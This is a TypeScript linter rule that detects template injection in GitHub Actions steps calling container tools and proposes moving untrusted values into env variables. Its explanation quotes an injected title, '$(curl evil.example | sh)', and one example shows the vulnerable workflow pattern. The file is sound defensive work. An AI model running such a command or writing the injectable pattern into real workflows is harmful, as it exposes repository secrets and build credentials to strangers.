import {
  defineRule,
  type Edit,
  type ProposedFix,
  replace,
  type ScriptExpression,
  type Span,
  type Spanned,
  type WorkflowEvent,
  type WorkflowStep,
  type YamlScalar,
} from "../../src/author.ts";
import { addVariable, dialectOf, isPosixFamily } from "../../src/kit.ts";
import { containerTools } from "../../src/knowledge/programs/containers.ts";
import { eventsWithUntrusted, privilegedEvents } from "../../src/knowledge/untrusted-inputs.ts";

export default defineRule({
  id: "workflow-no-template-injection",
  summary: "Scripts that call container tools contain no untrusted expressions",
  why:
    "GitHub inserts the value of an expression into the script before a shell reads it. A title such as " +
    "`$(curl evil.example | sh)` then runs as a command, beside the credentials of the registry and the images that the job builds. " +
    "A variable in `env` is only a value to the shell. The finding is an error if the event runs with the secrets of the repository, " +
    "and otherwise a warning. Scripts that call no container tool are left to linters of workflows, and conditions that ask who the " +
    "author is, or for a branch of the repository itself, are trusted.",
  topic: "workflows",
  category: "security",
  severity: "error",
  fix: "unsafe",
  kinds: ["workflow"],
  recommended: true,
  cwe: [78, 94],
  aliases: { zizmor: ["template-injection"], actionlint: ["expression"], checkov: ["CKV_GHA_2"] },
  reference: "https://docs.github.com/en/actions/concepts/security/script-injections",
  messages: {
    injected: "Commands in {property} run in this script, which calls {program}: pass it as a variable in env",
  },
  examples: [
    {
      bad: 'on: pull_request_target\njobs:\n  image:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: docker build --tag "app:«${{ github.head_ref }}»" .',
      fixedUnsafe:
        'on: pull_request_target\njobs:\n  image:\n    runs-on: ubuntu-24.04\n    steps:\n      - env:\n          HEAD_REF: ${{ github.head_ref }}\n        run: docker build --tag "app:$HEAD_REF" .',
      good: 'on: pull_request_target\njobs:\n  image:\n    runs-on: ubuntu-24.04\n    steps:\n      - env:\n          HEAD_REF: ${{ github.head_ref }}\n        run: docker build --tag "app:$HEAD_REF" .',
    },
    {
      title: "What is only compared comes to no text of its author's",
      good: "on: pull_request_target\njobs:\n  image:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: docker build --tag app:${{ github.head_ref == 'next' && 'next' || 'test' }} .",
    },
  ],
  on: {
    *WorkflowStep(step, { model: { events }, source }) {
      if (step.expressions.length === 0 || asksForAuthor(step.condition) || asksForAuthor(step.job.condition)) return;
      const program = step.commands.find((command) => containerTools.has(command.program ?? ""))?.program;
      if (program === undefined) return;
      const started = events.filter(({ name }) => mayRun(step, name));
      // Who calls a workflow, or uses an action, has been started by an event of its own.
      const called = events.length === 0 || events.some(({ name }) => name === "workflow_call");
      let found = 0;
      for (const expression of step.expressions) {
        const untrusted = untrustedIn(expression, started, called);
        if (!untrusted) continue;
        const { property, privileged } = untrusted;
        const fixes = found++ < mostFixed ? fix(expression, property, step, source.text) : undefined;
        const severity = privileged ? "error" : "warning";
        yield { at: expression, message: "injected", data: { property, program }, severity, fixes };
      }
    },
  },
});

/** Whether a condition may hold for those alone who can write to the repository anyway. */
function asksForAuthor(condition: YamlScalar | undefined): boolean {
  return /\bhead\.repo\b|\bauthor_association\b/.test(condition?.value ?? "");
}

/** Each fix looks through the script; further ones are offered when these have been made. */
const mostFixed = 32;

interface Untrusted {
  readonly property: string;
  /** Whether strangers write it in a run that has the secrets of the repository. */
  readonly privileged: boolean;
}

/**
 * The property of an expression that a stranger writes when the step runs.
 *
 * @param started the events that may have it run
 * @param called whether others may, which are not known
 */
function untrustedIn(
  { properties }: ScriptExpression,
  started: readonly WorkflowEvent[],
  called: boolean,
): Untrusted | undefined {
  const found = properties.flatMap((property) => {
    const among = eventsWithUntrusted(property);
    const starts = started.filter(({ name }) => among?.includes(name));
    if (!among || (starts.length === 0 && !called)) return [];
    return { property, privileged: starts.some(({ name }) => privilegedEvents.has(name)) };
  });
  return found.find(({ privileged }) => privileged) ?? found[0];
}

function mayRun(step: WorkflowStep, event: string): boolean {
  const runs = step.when(event);
  return !runs.known || runs.value;
}

function fix(
  expression: ScriptExpression,
  property: string,
  step: WorkflowStep,
  source: string,
): ProposedFix | undefined {
  const quoted = isQuoted(expression, step, source);
  if (quoted === undefined) return undefined;
  const variable = variableFor(expression, property, step, source);
  if (!variable) return undefined;
  const { name, edit } = variable;
  const use = /\w/.test(source[expression.span.end] ?? "") ? `\${${name}}` : `$${name}`;
  const title = `Pass it as the variable ${name}`;
  return {
    title: quoted ? title : `${title}, unless the script needs it split into words`,
    safe: false,
    effect: "none",
    edits: [...(edit ? [edit] : []), replace(expression.span, quoted ? use : `"$${name}"`)],
  };
}

/** The variable that holds what an expression comes to: one that the step has, or a new one. */
function variableFor(
  { text }: ScriptExpression,
  property: string,
  step: WorkflowStep,
  source: string,
): { readonly name: string; readonly edit?: Edit } | undefined {
  const own = /^\$\{\{\s*env\.([A-Za-z_]\w*)\s*\}\}$/.exec(text)?.[1];
  if (own !== undefined) return { name: own };
  const holds = step.environment.find(({ valueSpan: span }) => span && source.slice(span.start, span.end) === text);
  if (holds) return { name: holds.name };
  const parts = property.split(".").filter((part) => !["github", "event", "*"].includes(part));
  const name = parts.join("_").toUpperCase();
  if (new RegExp(`\\b${name}\\b`).test(step.script?.value ?? "")) return undefined;
  // A plain value ends at these.
  const edit = /: | #|\n/.test(text) ? undefined : addVariable(step, `${name}: ${text}`, source);
  return edit && { name, edit };
}

/** Whether an expression stands in double quotes; undefined where a variable would not be expanded, or it cannot be told. */
function isQuoted({ span }: ScriptExpression, step: WorkflowStep, source: string): boolean | undefined {
  const { script } = step;
  const { shell } = step.place.state;
  if (!script || !shell.known || !isPosixFamily(dialectOf(shell.value).dialect)) return undefined;
  // Of what is written in quotes, or folded, the shell sees something else than the file has.
  if (script.style !== "literal" && script.style !== "plain") return undefined;
  const word = wordAround(span, step);
  if (!word) return isQuotedInAssignment(source.slice(script.contentSpan.start, span.start));
  const ahead = source.slice(word.start, span.start);
  if (/[\\`\n]|\$\(/.test(ahead)) return undefined;
  const open = openQuote(ahead);
  return open === "'" ? undefined : open === '"';
}

/** The quote that a text begins and does not end. */
function openQuote(text: string): string | undefined {
  let open: string | undefined;
  for (const character of text) {
    if (character === open) open = undefined;
    else if (open === undefined && (character === "'" || character === '"')) open = character;
  }
  return open;
}

/** The innermost word of a command that has a place in it; none in a text that is handed to another shell. */
function wordAround({ start, end }: Span, { commands }: WorkflowStep): Span | undefined {
  const words = commands.flatMap(({ script, line, environment, redirects }) =>
    [
      ...line.map(({ word }) => word.span),
      ...environment.map(({ valueSpan }) => valueSpan),
      ...redirects.flatMap(({ target }) => target?.word.span ?? []),
    ].map((span) => ({ span, script })),
  );
  const around = words.filter(({ span }) => span.start <= start && end <= span.end);
  const [innermost] = around.toSorted((a, b) => lengthOf(a) - lengthOf(b));
  const [outermost] = commands.map(({ script }) => script).toSorted((a, b) => lengthOf(b) - lengthOf(a));
  return innermost?.script === outermost ? innermost?.span : undefined;
}

function lengthOf({ span }: Spanned): number {
  return span.end - span.start;
}

/** The same in `TAG="..."` on a line of its own, which is no command. @param ahead the script before it */
function isQuotedInAssignment(ahead: string): boolean | undefined {
  const start = ahead.lastIndexOf("\n") + 1;
  const [assignment, quote] = /^\s*\w+=("?)[\w./:@-]*$/.exec(ahead.slice(start)) ?? [];
  // In a here-document, or in quotes that began above, nothing is assigned.
  const above = ahead.slice(0, start);
  if (assignment === undefined || above.includes("<<") || openQuote(above) !== undefined) return undefined;
  return quote !== "";
}
